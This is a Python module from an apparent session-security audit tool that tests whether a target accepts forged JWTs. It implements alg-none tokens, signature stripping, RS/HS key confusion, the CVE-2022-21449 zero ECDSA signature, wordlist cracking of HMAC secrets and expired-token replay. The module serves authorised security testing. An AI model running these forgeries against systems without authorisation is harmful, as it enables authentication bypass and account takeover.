"""JSON Web Token attacks (WSTG-SESS-10, ASVS 9.1.1, 9.1.2, 9.2.1; RFC 8725).

Runs when the session token is a compact JWS. After reading its header and claims, every
forged token is presented alone from a fresh client to the authenticated page:

* ``alg`` set to ``none``, ``None``, ``NONE`` and ``nOnE`` with an empty signature (with
  and without the trailing dot);
* the original header with the signature removed, and the payload edited with the original
  signature kept;
* HS256 keyed with the text of the public key (each PEM form), for RSA and EC keys from the
  target's JWK set (``[jwt] jwks``, default ``/.well-known/jwks.json``);
* for ECDSA tokens, the all-zero "psychic" signature (CVE-2022-21449);
* offline, the HMAC secret against the shipped wordlist (no traffic); a secret found is
  confirmed by signing a fresh token with it;
* an expired token: forged with a cracked secret or an accepted ``none``, otherwise the real
  one replayed after its ``exp`` when that falls within ``--max-wait`` and ``--timeouts``.
"""

from __future__ import annotations

import json
import time
from collections.abc import Callable
from typing import Any

from sessionward.audit.context import Context
from sessionward.audit.jose import b64d, b64e, compact, crack_hmac, hmac_sign, pem_variants
from sessionward.audit.jose import wordlist as shipped_words
from sessionward.audit.probes.lifecycle import alive
from sessionward.audit.tokenshape import jwt_parts

__all__ = ["plan", "run"]

_NONE = ("none", "None", "NONE", "nOnE")
_SENSITIVE = (
    "password",
    "passwd",
    "pwd",
    "secret",
    "ssn",
    "card",
    "cvv",
    "iban",
    "pin",
    "private",
    "credit",
)
_DAY = 86_400
_ZERO_DER = b64d("MAYCAQACAQA")  # DER SEQUENCE { INTEGER 0, INTEGER 0 }


def run(ctx: Context) -> None:
    user = ctx.actor("jwt-user")
    token = ctx.flows.login(user).token
    parts = jwt_parts(token)
    if parts is None:
        ctx.note("jwt: the session token is not a JWT; JWT probe skipped")
        return
    header, claims = parts
    _claims(ctx, header, claims)
    if not alive(ctx, token, "jwt-baseline"):
        ctx.note("jwt: the token does not work from a fresh client; forged tokens not tried")
        return
    forge = _try_forgeries(ctx, token, header, claims)
    _expired(ctx, token, header, claims, forge)


def _claims(ctx: Context, header: dict[str, Any], claims: dict[str, Any]) -> None:
    lifetime = _lifetime(claims)
    evidence = {
        "header": {k: v for k, v in header.items() if k in ("alg", "typ", "kid", "cty")},
        "claims": sorted(claims),
        "lifetime_seconds": lifetime,
    }
    ctx.report(
        "jwt-claims",
        f"alg {header.get('alg')}, claims: {', '.join(sorted(claims))}",
        evidence=evidence,
    )
    if "exp" not in claims:
        ctx.report("jwt-no-expiry", "the token has no exp claim: it never expires by itself")
    elif lifetime is not None and lifetime > _DAY:
        ctx.report("jwt-long-lifetime", f"the token lives {lifetime / 3600:.0f} hours")
    if "aud" not in claims:
        ctx.report("jwt-no-audience", "the token names no audience (aud)")
    sensitive = [c for c in claims if any(word in c.lower() for word in _SENSITIVE)]
    if sensitive:
        ctx.report(
            "jwt-sensitive-claims",
            "claims that look sensitive: " + ", ".join(sensitive),
            evidence={"claims": sensitive},
        )


def _lifetime(claims: dict[str, Any]) -> float | None:
    exp = claims.get("exp")
    start = claims.get("iat", claims.get("nbf"))
    if isinstance(exp, int | float) and isinstance(start, int | float):
        return float(exp - start)
    if isinstance(exp, int | float):
        return float(exp - time.time())
    return None


Forge = Callable[[dict[str, Any]], str] | None  # claims -> a token the target may accept


def _try_forgeries(
    ctx: Context, token: str, header: dict[str, Any], claims: dict[str, Any]
) -> Forge:
    head, body, _ = token.split(".")
    forge: Forge = None
    accepted_none = []
    for variant in _NONE:
        forged = compact({**header, "alg": variant}, claims)
        for candidate in (forged, forged.rstrip(".")) if variant == "none" else (forged,):
            if alive(ctx, candidate, "jwt-none"):
                accepted_none.append(variant + ("" if candidate.endswith(".") else " (no dot)"))
    if accepted_none:
        ctx.report(
            "jwt-alg-none",
            "unsigned tokens are accepted: alg " + ", ".join(accepted_none),
            evidence={"accepted": accepted_none},
        )
        variant = accepted_none[0].split()[0]

        def forge(c: dict[str, Any]) -> str:
            return compact({**header, "alg": variant}, c)

    if alive(ctx, f"{head}.{body}.", "jwt-stripped"):
        ctx.report("jwt-signature-unchecked", "the token is accepted with its signature removed")
    edited = b64e(_json({**claims, "sw_audit": 1}))
    if alive(ctx, f"{head}.{edited}.{token.split('.')[2]}", "jwt-edited"):
        ctx.report(
            "jwt-signature-unchecked",
            "a token whose payload was changed is accepted with the original signature",
            key="edited",
        )
    alg = str(header.get("alg", ""))
    if alg.startswith("HS"):
        forge = _weak_secret(ctx, token, header, claims) or forge
    elif alg[:2] in ("RS", "PS", "ES"):
        _key_confusion(ctx, header, claims)
        if alg.startswith("ES"):
            _psychic(ctx, head, body, alg)
    return forge


def _json(value: dict[str, Any]) -> bytes:
    return json.dumps(value, separators=(",", ":")).encode()


def _weak_secret(ctx: Context, token: str, header: dict[str, Any], claims: dict[str, Any]) -> Forge:
    secret = crack_hmac(token, shipped_words())
    if secret is None:
        return None
    key = secret.encode()
    alg = str(header["alg"])

    def forge(c: dict[str, Any]) -> str:
        signing = ".".join(compact(header, c).split(".")[:2])
        return f"{signing}.{b64e(hmac_sign(signing, key, alg))}"

    now = int(time.time())
    confirmed = alive(ctx, forge({**claims, "iat": now, "sw_audit": 1}), "jwt-forged")
    shown = f"{secret[0]}{'*' * (len(secret) - 1)}"
    ctx.report(
        "jwt-weak-secret",
        f"the HMAC secret is in the shipped wordlist ({len(secret)}"
        f" characters, {shown}); a token signed with it was"
        f" {'accepted' if confirmed else 'not accepted'}",
        evidence={"secret_length": len(secret), "forged_token_accepted": confirmed},
    )
    return forge


def _key_confusion(ctx: Context, header: dict[str, Any], claims: dict[str, Any]) -> None:
    path = ctx.scenario.jwks or "/.well-known/jwks.json"
    answer = ctx.actor("jwks").get(path)
    keys = (answer.json() or {}).get("keys", []) if answer.status == 200 else []
    if not isinstance(keys, list) or not keys:
        ctx.note(f"jwt: no JWK set at {path}; key confusion not tried")
        return
    kid = header.get("kid")
    chosen = [k for k in keys if isinstance(k, dict) and (kid is None or k.get("kid") == kid)]
    for jwk in chosen or [k for k in keys if isinstance(k, dict)]:
        for pem in pem_variants(jwk):
            forged_header = {**header, "alg": "HS256"}
            signing = ".".join(compact(forged_header, claims).split(".")[:2])
            forged = f"{signing}.{b64e(hmac_sign(signing, pem))}"
            if alive(ctx, forged, "jwt-confusion"):
                form = pem.split(b"\n")[0].decode()
                ctx.report(
                    "jwt-key-confusion",
                    f"a token signed with HS256 keyed by the public"
                    f" key's PEM text ({form}) is accepted",
                    evidence={"kid": jwk.get("kid"), "pem": form},
                )
                return


def _psychic(ctx: Context, head: str, body: str, alg: str) -> None:
    size = {"ES256": 64, "ES384": 96, "ES512": 132}.get(alg, 64)
    for signature in (b"\0" * size, _ZERO_DER):
        if alive(ctx, f"{head}.{body}.{b64e(signature)}", "jwt-psychic"):
            ctx.report("jwt-psychic-signature", "an ECDSA token with r = s = 0 is accepted")
            return


def _expired(
    ctx: Context, token: str, header: dict[str, Any], claims: dict[str, Any], forge: Forge
) -> None:
    now = int(time.time())
    if forge is not None:
        past = {**claims, "iat": now - 7200, "exp": now - 3600}
        if "nbf" in claims:
            past["nbf"] = now - 7200
        if alive(ctx, forge(past), "jwt-expired"):
            ctx.report("jwt-expired-accepted", "a token that expired an hour ago is accepted")
        return
    exp = claims.get("exp")
    if not isinstance(exp, int | float):
        return
    wait = exp - time.time() + 2
    if not ctx.options.timeouts or wait > ctx.options.max_wait:
        ctx.note(
            f"jwt: expired-token replay needs a wait of {wait:.0f} s (--timeouts and a"
            " --max-wait that long)"
        )
        return
    if wait > 0:
        ctx.sleep(wait)
    if alive(ctx, token, "jwt-expired"):
        ctx.report(
            "jwt-expired-accepted",
            f"the token is still accepted {time.time() - exp:.0f} s after its exp",
        )


def plan(ctx: Context) -> list[str]:
    auth = ctx.scenario.authenticated.path
    return [
        "jwt: if the token is a JWT: log in once, then GET"
        f" {auth} with forged tokens (alg none x5, signature stripped, payload edited,"
        " HS256 keyed with each public key from the JWK set, ECDSA zero signature, expired);"
        " the HMAC secret is checked offline against the shipped wordlist"
    ]
